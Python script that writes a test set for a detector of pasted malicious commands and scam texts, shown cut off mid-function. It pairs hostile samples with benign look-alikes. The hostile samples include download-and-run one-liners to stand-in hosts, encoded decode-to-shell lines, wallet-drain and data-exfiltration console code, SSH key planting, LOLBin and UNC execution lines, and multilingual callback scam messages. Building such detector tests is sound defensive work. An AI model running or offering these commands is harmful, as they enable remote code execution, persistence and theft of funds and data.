"""Writes tests/data/cases/redteam.jsonl: techniques the second blind set (bench/blind/lures-2,
benign-2) showed were missed, each written again here in our own words beside the look-alike
text that must stay quiet. The blind texts themselves are not copied.

    python tests/data/cases/make_redteam.py

Deterministic. Lure hosts and pages are made-up names; developer pages are made-up vendors.
Each line is {id, text, expect, technique, platform, source, target}. Techniques:

- `page-disguise`: the page that wrote a command speaks of captchas or proving you are human in
  its address, or puts a borrowed company name into its own domain (`zoom-update-desk`): a plain
  download-and-run from it into a terminal is `malicious`; the same from an ordinary stranger's
  page stays a warning; a vendor page named after its own product vouches for its own script;
  such a page's prose runs nothing;
- `paste-instructions`: the text itself orders Win+R / Win+X / Cmd+Space and a paste: with a
  command from a stranger's page, `malicious`; instructions alone or advice against them: not
  flagged; a project's README section copied whole with its own installer: `info`;
- `typographic-powershell`: en/em dashes and curly quotes that PowerShell accepts in place of
  `-` and quotes: `malicious` from a stranger's page; prose with dashes and curly quotes, and a
  vendor's own page whose CMS curled the quotes of its installer: not flagged;
- `wallet-drain`: console code asking the browser wallet to send funds or sign a permit to a
  fixed address: `malicious`; connecting, reading the chain id or a balance, a documentation
  example sending nothing to the zero address: not flagged;
- `console-script-injection`: `$.ajax({dataType:'script'})` and `document.write('<script src>')`
  of another site's script: `malicious` in the console; JSON requests, plain writes and the
  site's own scripts by a relative path: not;
- `literal-decode-to-shell`: text written in the command and base32-decoded, reversed or
  rot13-ed into a shell: `malicious`; the same tools without a shell: not flagged;
- `interpreter-eval`: php/perl/ruby/JXA evaluating a download or a decoded blob: `malicious`;
  the same interpreters printing or decoding: not flagged;
- `ssh-key-plant`: a downloaded key appended to authorized_keys: `flagged`; adding one's own
  local key, or one's own keys as GitHub publishes them (github.com/<user>.keys): not flagged;
- `ps-hidden-runs`: SecureString and NetworkCredential decoding into Invoke-Expression, C#
  fetched into Add-Type, a download piped into a second PowerShell, a download started with a
  hidden window, a download saved under $env: and run by a script host: `flagged` or
  `malicious`; their everyday uses, and a release MSI run from %TEMP% on its own page: quiet;
- `unc-and-webdav`: -File / Invoke-Item / msiexec / rundll32 / file:// / wmic /format: / search-ms
  pointing at another computer: `malicious` or `flagged`; a single-label intranet server and a
  shared printer from the IT wiki: not flagged;
- `scam-language`: callback and lock texts with crypto amounts, German compound account names,
  Portuguese and Russian card alarms, traditional Chinese, Arabic and Korean, a PC "sending
  malware", an unrecognised sign-in, an account "used to buy", an expired licence leaving the
  computer vulnerable, a Mac or iPhone infected (Japanese): `flagged`;
  genuine notices with a number in the same languages: not flagged;
- `forge-cdn-and-bare-host`: jsDelivr's /gh/<owner>/<repo> linked to github.com/<owner>, and
  an installer address written without a scheme on its own site: `info`; from another owner's
  page: `flagged`; written as plain http://: not vouched (`flagged`);
- `url-to-program`: only the web address of a program or script file (.exe, .msi, .hta...) pasted
  into the Run box from a stranger's page: `malicious`; the same address into a chat, or a
  document's address into the Run box: not flagged;
- `download-then-source`: a download saved to a file and read into the shell with `.` or
  `source`, or fed to a shell through `< <(curl …)`: `flagged`; activating a local virtualenv:
  not flagged;
- `rare-lolbins`: App Installer's protocol fetching a package, App-V's script runner on a share,
  certreq posting to a web address, ftp reading commands from a share, a web address handed to
  mshta through a variable read from a file: `malicious` in the Run
  box from a stranger's page, `flagged` bare; their local uses: not flagged;
- `comment-claims`: a download-and-run whose comment quotes a check page (reCAPTCHA, Turnstile,
  "я не робот") or claims to be a company's fix, update or scan: `malicious` from a stranger's
  page; a vendor's own installer with ordinary comments (platforms, what it updates): `info`;
- `console-fetched-code`: a script element filled with fetched text, and an account's data read
  from the site's own API and posted elsewhere: `malicious` in the console; reading the API,
  or pinging a monitor after a health check: not flagged;
- `mac-interpreters`: a download handed to python/perl/node as program text, a downloaded
  AppleScript run with osascript, quarantine switched off with `defaults write`, the keychain
  folder uploaded, Terminal killed after a run: `flagged` or `malicious`; running a local script,
  `python3 -c` with plain code, archiving one's own documents: not flagged;
- `quiet-in-editors`: a blog's prose quoting a `curl | sh` in backticks, pasted into an editor or
  a chat box from its page: the page adds nothing where nothing runs (not flagged); the same
  prose into a terminal, where bash would run what the backticks hold: `flagged`;
- `oauth-placeholder`: a documentation redirect whose code is cut short with `...`: not flagged;
  a real code: `flagged`.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("redteam.jsonl")
BENIGN = "none"

STRANGER_PAGES = [
    "https://www.pottery-studio.example/classes/wheel",
    "https://forum.retro-consoles.example/t/8812",
    "https://portal.parking-permits.example/renew",
    "https://www.alpine-huts.example/booking/42",
]
DISGUISED_PAGES = [
    "https://cdn-captcha-gate.example/check",
    "https://www.harbor-news.example/are-you-human?ref=7",
    "https://zoom-update-desk.example/join/991",
    "https://paypal-refund-center.example/case",
    "https://github-repo-alerts.example/notice/77",
    "https://secure.example/cf-challenge/verify",
    "https://sharepoint-files-view.example/doc/7781",
    "https://www.site-check.example/cdn-cgi/challenge/a1",
]
LURE_HOSTS = ["dl.quartz-relay.example", "api.pine-sync.test", "static.ember-cdn.example"]
VENDORS = [
    ("https://docs.kettlectl.dev/install", "https://get.kettlectl.dev/install.sh"),
    ("https://www.saltbox.io/docs/cli", "https://saltbox.io/install.sh"),
]


def page_disguise_cases() -> list[dict[str, str]]:
    out = []
    for n, page in enumerate(DISGUISED_PAGES, start=1):
        host = LURE_HOSTS[n % len(LURE_HOSTS)]
        out += [
            case(f"rt-disguise-ps-{n}", f"irm https://{host}/i{n}.ps1 | iex", "malicious",
                 "T1204.004", "windows", page, "terminal"),
            case(f"rt-disguise-sh-{n}", f"curl -fsSL https://{host}/s{n} | bash", "malicious",
                 "T1204.004", "linux", page, "terminal"),
            case(f"rt-disguise-prose-ok-{n}", "Thanks for waiting, the page will load shortly.",
                 "not_flagged", BENIGN, "any", page, "other"),
        ]  # fmt: skip
    for n, page in enumerate(STRANGER_PAGES, start=1):
        host = LURE_HOSTS[n % len(LURE_HOSTS)]
        # a page whose address is about something else (pottery classes, parking permits) is
        # itself the trait (PG-PAGE-OFF-TOPIC); a forum thread or a page naming a Linux word
        # could be a developer's: a warning
        expect = "suspicious" if "forum." in page or "alpine" in page else "malicious"
        out.append(case(f"rt-disguise-plain-{n}", f"irm https://{host}/i{n}.ps1 | iex",
                        expect, "T1204.004", "windows", page, "terminal"))  # fmt: skip
    # a vendor whose product name joins a borrowed name still vouches for its own script
    out += [
        case("rt-disguise-own-ok-1", "curl -fsSL https://discord-botkit.dev/install.sh | sh",
             "info", BENIGN, "linux", "https://docs.discord-botkit.dev/start", "terminal"),
        case("rt-disguise-own-ok-2",
             "irm https://raw.githubusercontent.com/zoom-notes/zn/main/install.ps1 | iex", "info",
             BENIGN, "windows", "https://github.com/zoom-notes/zn", "terminal"),
    ]  # fmt: skip
    return out


def instructions_cases() -> list[dict[str, str]]:
    out = []
    lures = [
        (
            "Step 1: hold the Windows key and press R\nStep 2: press CTRL + V\n"
            'powershell -c "iwr https://{h}/w -UseB | iex"',
            "windows",
            "run_dialog",
        ),
        (
            "Press Win+X, choose Terminal (Admin), paste and press Enter:\nirm https://{h}/x | iex",
            "windows",
            "terminal",
        ),
        (
            "Open Terminal with Cmd + Space and paste this line:\ncurl -fsSL https://{h}/m | zsh",
            "macos",
            "terminal",
        ),
        (
            "Right-click the Start button, select Windows PowerShell, then paste:\n"
            "iex (New-Object Net.WebClient).DownloadString('https://{h}/r')",
            "windows",
            "terminal",
        ),
    ]
    for n, (text, platform, target) in enumerate(lures, start=1):
        host = LURE_HOSTS[n % len(LURE_HOSTS)]
        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
        out.append(case(f"rt-instructions-{n}", text.format(h=host), "malicious", "T1204.004",
                        platform, page, target))  # fmt: skip
    benign = [
        "To open the Run dialog, press Win + R and type services.msc.",
        "Never press Win+R and paste anything a website gives you: that is the ClickFix scam.",
        "Keyboard shortcuts: Ctrl + C copies, Ctrl + V pastes, Ctrl + Z undoes.",
    ]
    for n, text in enumerate(benign, start=1):
        out.append(case(f"rt-instructions-ok-{n}", text, "not_flagged", BENIGN, "windows",
                        "https://support.example-help.org/windows/shortcuts", "other"))  # fmt: skip
    # a README's install section copied whole, instructions included, from the project's page
    (page, script), _ = VENDORS
    readmes = [
        f"## Install\nOpen a terminal and paste the following command:\n\ncurl -fsSL {script} | sh",
        "Press Win+X, choose Terminal, paste this and press Enter:\n"
        "irm https://get.kettlectl.dev/install.ps1 | iex",
    ]
    for n, text in enumerate(readmes, start=1):
        out.append(case(f"rt-instructions-readme-ok-{n}", text, "info", BENIGN, "any", page,
                        "terminal"))  # fmt: skip
    return out


def typographic_cases() -> list[dict[str, str]]:
    out = []
    lures = [
        "powershell –nop –w hidden –c “iex (irm https://{h}/a)”",
        "pwsh —c “(New-Object Net.WebClient).DownloadString('https://{h}/b') | iex”",
        "iex (iwr “https://{h}/c” -UseBasicParsing).Content",
    ]
    for n, text in enumerate(lures, start=1):
        host = LURE_HOSTS[n % len(LURE_HOSTS)]
        out.append(case(f"rt-typographic-{n}", text.format(h=host), "malicious", "T1027",
                        "windows", STRANGER_PAGES[n % len(STRANGER_PAGES)], "terminal"))  # fmt: skip
    # a vendor's docs whose CMS curled the quotes: the page still vouches for its own script
    out.append(
        case(
            "rt-typographic-own-ok",
            "powershell -c “irm https://get.kettlectl.dev/install.ps1 | iex”",
            "info",
            BENIGN,
            "windows",
            "https://docs.kettlectl.dev/install",
            "terminal",
        )
    )
    benign = [
        "PowerShell – the cross-platform shell – now ships with “predictive” completion.",
        "powershell -NoProfile -Command \"Get-Date -Format 'yyyy-MM-dd'\"",
    ]
    for n, text in enumerate(benign, start=1):
        out.append(case(f"rt-typographic-ok-{n}", text, "not_flagged", BENIGN, "windows",
                        "https://blog.example-shells.org/pwsh-7", "terminal"))  # fmt: skip
    return out


def wallet_cases() -> list[dict[str, str]]:
    addr = "0x" + "4b" * 20
    lures = [
        f"ethereum.request({{method:'eth_sendTransaction',params:[{{from:ethereum.selectedAddress,"
        f"to:'{addr}',value:'0xde0b6b3a7640000'}}]}})",
        f"await window.ethereum.request({{method:'eth_signTypedData_v4',params:[acct,JSON.stringify("
        f"{{primaryType:'PermitSingle',message:{{spender:'{addr}'}}}})]}})",
        f"provider.request({{method:'eth_sendTransaction',params:[{{to:'{addr}',data:'0x095ea7b3"
        f"{'0' * 24}{addr[2:]}{'f' * 64}'}}]}})",
    ]
    out = [
        case(
            f"rt-wallet-{n}",
            text,
            "malicious",
            "T1657",
            "any",
            "https://claim-rewards.example-airdrop.org/s3",
            "browser_console",
        )
        for n, text in enumerate(lures, start=1)
    ]
    benign = [
        "await window.ethereum.request({ method: 'eth_requestAccounts' })",
        "await ethereum.request({ method: 'eth_chainId' })",
        "ethereum.request({method: 'eth_getBalance', params: [accounts[0], 'latest']})",
        # a documentation example sending nothing to the zero address
        "const tx = { to: '0x" + "0" * 40 + "', from: ethereum.selectedAddress, value: '0x0' };\n"
        "await ethereum.request({ method: 'eth_sendTransaction', params: [tx] });",
    ]
    out += [
        case(
            f"rt-wallet-ok-{n}",
            text,
            "not_flagged",
            BENIGN,
            "any",
            "https://docs.example-wallet.dev/guide/connect",
            "browser_console",
        )
        for n, text in enumerate(benign, start=1)
    ]
    return out


def console_injection_cases() -> list[dict[str, str]]:
    out = []
    lures = [
        "$.ajax({url:'https://{h}/w.js', dataType:'script'})",
        "jQuery.ajax({ url: 'https://{h}/x.js', dataType: \"script\", cache: true })",
        "document.write('<script src=\"https://{h}/p.js\"></script>')",
        'document.writeln("<scr"+"ipt src=\'//{h}/q.js\'></scr"+"ipt>")',
    ]
    for n, text in enumerate(lures, start=1):
        host = LURE_HOSTS[n % len(LURE_HOSTS)]
        out.append(case(f"rt-console-inject-{n}", text.replace("{h}", host), "malicious",
                        "T1059.007", "any", STRANGER_PAGES[n % len(STRANGER_PAGES)],
                        "browser_console"))  # fmt: skip
    benign = [
        "$.ajax({url: '/api/items', dataType: 'json'}).done(d => console.log(d))",
        "document.write('<p>Hello</p>')",
        "$.ajax({ url: '/static/js/plugin.js', dataType: 'script' })",
        "document.write('<script src=\"/static/legacy.js\"></script>')",
    ]
    out += [
        case(
            f"rt-console-inject-ok-{n}",
            text,
            "not_flagged",
            BENIGN,
            "any",
            "https://learn.example-web.dev/jquery/ajax",
            "browser_console",
        )
        for n, text in enumerate(benign, start=1)
    ]
    return out


def decode_cases() -> list[dict[str, str]]:
    out = []
    lures = [
        "echo MN2XE3BAFVZSA2DUORYHGORPF5SGYLTROVQXE5D2FVZGK3DBPEXGK6DBNVYGYZJPOF2WK43UEB6CAYTBONUA==== | base32 -d | sh",
        "rev <<< 'hsab | tseuq/elpmaxe.yaler-ztrauq.ld//:sptth Ls- lruc' | bash",
        "echo 'uf | gvoeb/gfrg.palf-ravc.vcn//:fcggu f- yehp' | rev | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
        "echo 'phey -f uggcf://fgngvp.rzore-pqa.rknzcyr/e | onfu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | bash",
    ]
    for n, text in enumerate(lures, start=1):
        out.append(case(f"rt-literal-decode-{n}", text, "malicious", "T1140", "linux",
                        STRANGER_PAGES[n % len(STRANGER_PAGES)], "terminal"))  # fmt: skip
    benign = [
        "echo 'dlrow olleh' | rev",
        "echo MZXW6YTBOI====== | base32 -d",
        "tr 'A-Za-z' 'N-ZA-Mn-za-m' < spoilers.txt > spoilers.rot13",
    ]
    out += [
        case(
            f"rt-literal-decode-ok-{n}",
            text,
            "not_flagged",
            BENIGN,
            "linux",
            "https://wiki.example-team.org/shell-tips",
            "terminal",
        )
        for n, text in enumerate(benign, start=1)
    ]
    return out


def interpreter_cases() -> list[dict[str, str]]:
    h = LURE_HOSTS[0]
    lures = [
        f"php -r 'eval(file_get_contents(\"https://{h}/x.txt\"));'",
        "php -r 'eval(base64_decode(\"c3lzdGVtKCJpZCIpOw==\"));'",
        "perl -MMIME::Base64 -e 'eval decode_base64(\"c3lzdGVtKCJpZCIp\")'",
        "ruby -rbase64 -e 'eval(Base64.decode64(\"c3lzdGVtKCJpZCIp\"))'",
        f'osascript -l JavaScript -e "eval($.NSString.stringWithContentsOfURLEncodingError('
        f"$.NSURL.URLWithString('https://{h}/j'),4,null).js)\"",
    ]
    out = [
        case(
            f"rt-interp-eval-{n}",
            text,
            "malicious",
            "T1059",
            "linux",
            STRANGER_PAGES[n % len(STRANGER_PAGES)],
            "terminal",
        )
        for n, text in enumerate(lures, start=1)
    ]
    benign = [
        "php -r 'echo phpversion(), PHP_EOL;'",
        "perl -MMIME::Base64 -e 'print decode_base64(\"aGVsbG8=\")'",
        "ruby -rbase64 -e 'puts Base64.decode64(\"aGVsbG8=\")'",
        "osascript -l JavaScript -e 'Application(\"Finder\").name()'",
    ]
    out += [
        case(
            f"rt-interp-eval-ok-{n}",
            text,
            "not_flagged",
            BENIGN,
            "linux",
            "https://stackoverflow.com/questions/1112223/",
            "terminal",
        )
        for n, text in enumerate(benign, start=1)
    ]
    return out


def ssh_key_cases() -> list[dict[str, str]]:
    out = []
    for n, host in enumerate(LURE_HOSTS, start=1):
        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
        lures = [
            f"curl -s https://{host}/k.pub >> ~/.ssh/authorized_keys",
            f"wget -qO- https://{host}/key | tee -a ~/.ssh/authorized_keys >/dev/null",
        ]
        for k, text in enumerate(lures, start=1):
            out.append(case(f"rt-ssh-key-{n}-{k}", text, "flagged", "T1098.004", "linux", page,
                            "terminal"))  # fmt: skip
    benign = [
        "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
        "ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@web01",
        "chmod 700 ~/.ssh && chmod 600 ~/.ssh/authorized_keys",
        "curl -s https://github.com/octo-dev.keys >> ~/.ssh/authorized_keys",
    ]
    out += [
        case(
            f"rt-ssh-key-ok-{n}",
            text,
            "not_flagged",
            BENIGN,
            "linux",
            "https://docs.example-hosting.com/ssh-keys",
            "terminal",
        )
        for n, text in enumerate(benign, start=1)
    ]
    return out


def ps_hidden_cases() -> list[dict[str, str]]:
    h = LURE_HOSTS[1]
    page = STRANGER_PAGES[2]
    lures = [
        (
            "$s=ConvertTo-SecureString 'QQB8AGQAZQBmAA==' -Key (1..16);iex ([Runtime.InteropServices."
            "Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))",
            "flagged",
        ),
        (
            "iex ([Net.NetworkCredential]::new('', (ConvertTo-SecureString 'QQB8AGQAZQBmAA==' "
            "-Key (1..16))).Password)",
            "flagged",
        ),
        (
            f"Add-Type -TypeDefinition (iwr https://{h}/t.cs -UseBasicParsing).Content; [T]::Go()",
            "flagged",
        ),
        (f"(New-Object Net.WebClient).DownloadString('https://{h}/p') | powershell -", "flagged"),
        (
            f"iwr https://{h}/u.exe -OutFile $env:APPDATA\\u.exe; Start-Process $env:APPDATA\\u.exe "
            "-WindowStyle Hidden",
            "malicious",
        ),
        (
            f"$d=(iwr https://{h}/g).Content; Set-Content $env:TEMP\\g.ps1 $d; "
            "powershell -ep bypass $env:TEMP\\g.ps1",
            "flagged",
        ),
    ]
    out = [
        case(f"rt-ps-hidden-{n}", text, expect, "T1027", "windows", page, "terminal")
        for n, (text, expect) in enumerate(lures, start=1)
    ]
    out.append(
        case(
            "rt-ps-hidden-own-msi",
            "iwr https://github.com/larkspur-io/lark/releases/download/v2.1.0/lark.msi "
            "-OutFile $env:TEMP\\lark.msi; msiexec /i $env:TEMP\\lark.msi /qn",
            "info",
            BENIGN,
            "windows",
            "https://github.com/larkspur-io/lark/releases",
            "terminal",
        )
    )
    benign = [
        "$pw = ConvertTo-SecureString $env:SVC_PASSWORD -AsPlainText -Force",
        "$cred = New-Object System.Management.Automation.PSCredential('svc', $pw)",
        "Add-Type -AssemblyName System.Windows.Forms",
        "Start-Process notepad.exe -WindowStyle Maximized",
    ]
    out += [
        case(
            f"rt-ps-hidden-ok-{n}",
            text,
            "not_flagged",
            BENIGN,
            "windows",
            "https://learn.microsoft.com/en-us/powershell/scripting/samples/",
            "terminal",
        )
        for n, text in enumerate(benign, start=1)
    ]
    return out


def unc_cases() -> list[dict[str, str]]:
    page = STRANGER_PAGES[3]
    lures = [
        (
            "powershell -ep bypass -File \\\\files.quartz-relay.example@SSL\\DavWWWRoot\\a.ps1",
            "malicious",
            "run_dialog",
        ),
        ("powershell -f \\\\198.51.100.77\\pub\\m.ps1", "malicious", "run_dialog"),
        (
            "Invoke-Item \\\\files.quartz-relay.example@SSL\\DavWWWRoot\\report.pdf.lnk",
            "malicious",
            "terminal",
        ),
        (
            "msiexec /i \\\\files.quartz-relay.example\\pkg\\agent.msi /qn",
            "malicious",
            "run_dialog",
        ),
        (
            "rundll32 zipfldr.dll,RouteTheCall \\\\203.0.113.61\\s\\viewer.exe",
            "malicious",
            "run_dialog",
        ),
        (
            "file://files.quartz-relay.example@SSL/DavWWWRoot/pay/statement.exe",
            "malicious",
            "run_dialog",
        ),
        ('wmic os get /format:"https://api.pine-sync.test/s.xsl"', "malicious", "run_dialog"),
    ]
    out = [
        case(f"rt-unc-{n}", text, expect, "T1218", "windows", page, target)
        for n, (text, expect, target) in enumerate(lures, start=1)
    ]
    out.append(case("rt-unc-bare-search-ms",
                    "search-ms:query=pay&crumb=location:%5C%5Capi.pine-sync.test@SSL%5Cdocs",
                    "flagged", "T1204.002", "windows", "", "unknown"))  # fmt: skip
    wiki = "https://wiki.example-corp.com/it/software"
    benign = [
        "msiexec /i \\\\swdist01\\packages$\\notepadpp-x64.msi /qn",
        "powershell -ExecutionPolicy Bypass -File \\\\swdist01\\scripts$\\Map-Drives.ps1",
        'rundll32 printui.dll,PrintUIEntry /in /n "\\\\prt01\\Floor2-Color"',
        "wmic logicaldisk get caption,freespace,size",
    ]
    out += [
        case(f"rt-unc-ok-{n}", text, "not_flagged", BENIGN, "windows", wiki, "terminal")
        for n, text in enumerate(benign, start=1)
    ]
    return out


def scam_cases() -> list[dict[str, str]]:
    lures = [
        "Kraken alert: a withdrawal of 2.5 ETH to 0x71C…9A2 was requested from a new device. If "
        "this wasn't you, call our security desk now at +1 (844) 555-0162.",
        "Ihr PayPal-Konto wurde wegen verdächtiger Zahlungen eingeschränkt. Rufen Sie sofort "
        "unseren Kundenservice unter 0800 555 0177 an.",
        "Compra no valor de R$ 1.899,00 foi aprovada no seu cartão final 4421. Não reconhece? "
        "Ligue 0800 555 0190 para cancelar.",
        "По вашей карте списание 12 500 ₽ ожидает подтверждения. Если это были не вы, позвоните "
        "8 800 555-01-90.",
        "您的帳戶已被暫時停用，請立即撥打客服熱線 +886 2 5555 0147 解除鎖定。",
        "تم حظر حسابك مؤقتاً. يرجى الاتصال بخدمة العملاء على الرقم +966 11 555 0147 لإعادة التفعيل",
        "고객님의 계정이 잠겼습니다. 해킹 시도가 감지되었습니다. 즉시 고객센터 1588-5550 으로 전화하십시오.",
        "Your PC is sending malware to other computers on this network. Call the help line now: "
        "+1 (877) 555-0139.",
        "Chase alert: an unrecognized login attempt was blocked. If this wasn't you, call our fraud "
        "team at 1-866-555-0172.",
        "Your Microsoft account was used to buy 3 Xbox gift cards ($300.00). Not you? Call "
        "1-855-555-0190 to cancel.",
        "Your antivirus licence has expired and your computer is now vulnerable. Call 1-888-555-0148 "
        "to renew your protection.",
        "警告：お使いのMacがウイルスに感染しています。サポート窓口 050-5555-0177 までお電話ください。",
    ]
    out = [
        case(f"rt-scam-{n}", text, "flagged", "T1566.004", "any", "", "unknown")
        for n, text in enumerate(lures, start=1)
    ]
    benign = [
        "Ihre Bestellung ist unterwegs. Bei Fragen erreichen Sie uns unter 0800 555 0100.",
        "Seu pedido foi entregue. Dúvidas? Ligue 0800 555 0100.",
        "Ваш заказ доставлен. Вопросы по телефону 8 800 555-01-00.",
        "您的包裹已送達，如有疑問請致電 02 5555 0100。",
        "تم تأكيد موعدك يوم الاثنين. للاستفسار اتصل على 04 555 0100",
        "예약이 확인되었습니다. 문의는 02-555-0100 으로 연락 주세요.",
        "New sign-in to your account from Firefox on Linux. If this was you, no action is needed. "
        "Help: 1-800-555-0101.",
        "Your subscription ends on 12/31. Renew any time in the app; questions: 1-800-555-0102.",
    ]
    out += [
        case(f"rt-scam-ok-{n}", text, "not_flagged", BENIGN, "any", "", "other")
        for n, text in enumerate(benign, start=1)
    ]
    return out


def provenance_cases() -> list[dict[str, str]]:
    return [
        case("rt-cdn-gh-ok-1",
             "curl -fsSL https://cdn.jsdelivr.net/gh/larkspur-io/lark@v2.1.0/install.sh | sh",
             "info", BENIGN, "linux", "https://github.com/larkspur-io/lark", "terminal"),
        case("rt-cdn-gh-ok-2",
             "irm https://fastly.jsdelivr.net/gh/larkspur-io/lark@main/install.ps1 | iex",
             "info", BENIGN, "windows", "https://larkspur-io.github.io/lark/", "terminal"),
        case("rt-cdn-gh-other-owner",
             "curl -fsSL https://cdn.jsdelivr.net/gh/someone-else/lark@main/install.sh | sh",
             "flagged", "T1105", "linux", "https://github.com/larkspur-io/lark", "terminal"),
        case("rt-bare-host-ok-1", "irm kettlectl.dev/install.ps1 | iex", "info", BENIGN,
             "windows", "https://docs.kettlectl.dev/install", "terminal"),
        case("rt-bare-host-ok-2", "curl -fsSL saltbox.io/install.sh | sh", "info", BENIGN,
             "linux", "https://www.saltbox.io/docs/cli", "terminal"),
        case("rt-bare-host-other", "irm kettlectl.dev/install.ps1 | iex", "flagged", "T1105",
             "windows", "https://www.saltbox.io/docs/cli", "terminal"),
        case("rt-plain-http-own", "curl -fsSL http://saltbox.io/install.sh | sh", "flagged",
             "T1105", "linux", "https://www.saltbox.io/docs/cli", "terminal"),
    ]  # fmt: skip


def oauth_cases() -> list[dict[str, str]]:
    return [
        case("rt-oauth-doc-ok-1",
             "GET http://localhost:8080/callback?code=Q29kZUZyb21UaGVJZGVudGl0eVByb3ZpZGVy...&state=af0ifjsldkj",
             "not_flagged", BENIGN, "any", "https://docs.example-idp.com/oauth/native-apps", "other"),
        case("rt-oauth-doc-ok-2",
             "http://127.0.0.1:53100/?code=4/0AbCdEfGhIjKlMnOpQrStUv…&scope=email",
             "not_flagged", BENIGN, "any", "https://docs.example-idp.com/oauth/loopback", "other"),
        case("rt-oauth-real",
             "http://localhost:8080/callback?code=Q29kZUZyb21UaGVJZGVudGl0eVByb3ZpZGVy9x7Lk2&state=af0ifjsldkj",
             "flagged", "T1528", "any", "https://portal.example-hr-benefits.com/sso", "unknown"),
    ]  # fmt: skip


def url_program_cases() -> list[dict[str, str]]:
    page = STRANGER_PAGES[0]
    lures = [
        "https://dl.quartz-relay.example/setup/AudioFix.exe",
        "http://203.0.113.61/a.hta",
        "https://static.ember-cdn.example/pay/statement.msi?id=5521",
        '"https://api.pine-sync.test/v/check.bat"',
    ]
    out = [
        case(f"rt-url-program-{n}", text, "malicious", "T1204.002", "windows", page, "run_dialog")
        for n, text in enumerate(lures, start=1)
    ]
    out += [
        case("rt-url-program-ok-1",
             "https://github.com/larkspur-io/lark/releases/download/v2.1.0/lark-setup.exe",
             "not_flagged", BENIGN, "windows", "https://github.com/larkspur-io/lark", "other"),
        case("rt-url-program-ok-2", "https://www.example-council.gov/minutes/2026-11.pdf",
             "not_flagged", BENIGN, "windows", page, "run_dialog"),
    ]  # fmt: skip
    return out


def source_cases() -> list[dict[str, str]]:
    out = []
    for n, host in enumerate(LURE_HOSTS, start=1):
        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
        lures = [
            f"wget https://{host}/env -qO /tmp/.e; . /tmp/.e",
            f"curl -fsSL https://{host}/p -o ~/.p && source ~/.p",
            f"bash < <(curl -s https://{host}/b)",
        ]
        for k, text in enumerate(lures, start=1):
            out.append(case(f"rt-source-{n}-{k}", text, "flagged", "T1059.004", "linux", page,
                            "terminal"))  # fmt: skip
    benign = [
        "python3 -m venv .venv && . .venv/bin/activate",
        "source ~/.bashrc",
    ]
    out += [
        case(
            f"rt-source-ok-{n}",
            text,
            "not_flagged",
            BENIGN,
            "linux",
            "https://docs.python.org/3/library/venv.html",
            "terminal",
        )
        for n, text in enumerate(benign, start=1)
    ]
    return out


def rare_lolbin_cases() -> list[dict[str, str]]:
    page = STRANGER_PAGES[1]
    lures = [
        "start ms-appinstaller:?source=https://static.ember-cdn.example/Teams.appinstaller",
        "ScriptRunner.exe -appvscript \\\\files.quartz-relay.example\\s\\fix.cmd",
        "certreq -Post -config https://api.pine-sync.test/c C:\\Windows\\win.ini out.txt",
        "ftp -i -s:\\\\203.0.113.61\\pub\\cmds.txt",
        'cmd /c "echo https://dl.quartz-relay.example/e > %TEMP%\\u.txt && set /p u=<%TEMP%\\u.txt '
        '&& call mshta %u%"',
    ]
    out = []
    for n, text in enumerate(lures, start=1):
        out += [
            case(f"rt-rare-lolbin-{n}", text, "malicious", "T1218", "windows", page, "run_dialog"),
            case(f"rt-rare-lolbin-bare-{n}", text, "flagged", "T1218", "windows", "", "unknown"),
        ]
    benign = [
        'certreq -submit -config "ca01.corp.example\\Corp Issuing CA" request.csr cert.cer',
        "ftp -s:upload-commands.txt ftp.example-files.com",
        "ScriptRunner.exe -appvscript C:\\Scripts\\prelaunch.cmd -appvscriptrunnerparameters -wait",
        "set MSI=C:\\Installers\\agent.msi & msiexec /i %MSI% /qn",
    ]
    out += [
        case(
            f"rt-rare-lolbin-ok-{n}",
            text,
            "not_flagged",
            BENIGN,
            "windows",
            "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/",
            "terminal",
        )
        for n, text in enumerate(benign, start=1)
    ]
    return out


def comment_claim_cases() -> list[dict[str, str]]:
    comments = [
        "# reCAPTCHA passed, session 7731",
        "# Cloudflare Turnstile: ok",
        "# Я не робот, код 7731",
        "# Microsoft Defender quick scan",
        "# Google Meet camera fix",
        "# Zoom audio driver update",
    ]
    out = []
    for n, comment in enumerate(comments, start=1):
        host = LURE_HOSTS[n % len(LURE_HOSTS)]
        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
        text = (
            f"irm https://{host}/c{n} | iex   {comment}"
            if n % 2
            else f"curl -fsSL https://{host}/c{n} | bash   {comment}"
        )
        out.append(case(f"rt-comment-claim-{n}", text, "malicious", "T1204.004", "any", page,
                        "terminal"))  # fmt: skip
    (page, script), _ = VENDORS
    ok = [
        f"curl -fsSL {script} | sh  # updates the CLI in place when already installed",
        "irm https://get.kettlectl.dev/install.ps1 | iex  # Windows 11 and Windows Server 2022",
        "irm https://get.kettlectl.dev/install.ps1 | iex  # Windows: update your PATH afterwards",
    ]
    out += [
        case(f"rt-comment-claim-ok-{n}", text, "info", BENIGN, "any", page, "terminal")
        for n, text in enumerate(ok, start=1)
    ]
    return out


def console_fetched_cases() -> list[dict[str, str]]:
    h = LURE_HOSTS[2]
    page = "https://giveaway-skins.example-promo.net/claim"
    lures = [
        f"let e=document.createElement('script');e.text=await (await fetch('https://{h}/s')).text();"
        "document.head.appendChild(e)",
        f"fetch('/api/v9/users/@me').then(r=>r.json()).then(u=>fetch('https://{h}/u',"
        "{method:'POST',body:JSON.stringify(u)}))",
        f"fetch('/account/settings').then(r=>r.text()).then(t=>fetch('https://{h}/a?d='+btoa(t)))",
    ]
    out = [
        case(f"rt-console-fetched-{n}", text, "malicious", "T1059.007", "any", page,
             "browser_console")
        for n, text in enumerate(lures, start=1)
    ]  # fmt: skip
    benign = [
        "fetch('/api/items').then(r => r.json()).then(console.table)",
        "fetch('/api/health').then(r => r.ok && fetch('https://status.example-monitor.com/ping'))",
        "const s = document.createElement('script'); s.src = '/static/app.js'; document.body.append(s)",
    ]
    out += [
        case(f"rt-console-fetched-ok-{n}", text, "not_flagged", BENIGN, "any",
